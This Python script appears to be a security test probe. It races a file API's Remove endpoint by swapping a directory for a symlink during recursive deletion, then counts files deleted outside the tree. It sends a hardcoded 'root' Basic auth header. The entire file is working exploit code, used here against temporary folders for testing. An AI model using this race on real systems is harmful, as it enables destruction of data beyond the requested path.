# Swaps a directory for a link while the file API removes what is in it.
# Control: a file API that opens what it is told

import json
import tempfile
import threading

FILES = 400


def fill(folder):
    os.makedirs(folder)
    for number in range(FILES):
        os.mknod(os.path.join(folder, f"precious-{number}"))


def swap(tree, victim):
    """As soon as the first file is gone, the rest seems to lie elsewhere."""
    branch = os.path.join(tree, "branch")
    try:
        while len(os.listdir(branch)) == FILES:
            pass
        os.rename(branch, tree + "-aside")
        os.symlink(victim, branch)
    except OSError:
        # It was faster this time.
        pass


def attempt():
    import shutil

    for _ in range(8):
        top = tempfile.mkdtemp()
        tree, victim = os.path.join(top, "tree"), os.path.join(top, "victim")
        fill(os.path.join(tree, "branch"))
        fill(victim)
        swapper = threading.Thread(target=swap, args=(tree, victim))
        swapper.start()
        remove(tree)
        # What is left of the tree is what the swapper waits for, if it waits.
        shutil.rmtree(tree, ignore_errors=True)
        swapper.join()
        left = len(os.listdir(victim))
        shutil.rmtree(top, ignore_errors=True)
        if left < FILES:
            return f"{FILES - left} files outside of the tree were removed"
    return None


def remove(tree):
    """A race may also make the request fail; what counts is what is gone."""
    import urllib.request

    body = json.dumps({"path": tree}).encode()
    request = urllib.request.Request(given("FILES") + "/filesystem.Filesystem/Remove", data=body, method="POST")
    request.add_header("X-Access-Token", given("TOKEN"))
    request.add_header("Authorization", "Basic cm9vdDo=")
    request.add_header("Content-Type", "application/json")
    try:
        urllib.request.urlopen(request, timeout=4).read()
    except OSError:
        pass


attack(attempt)
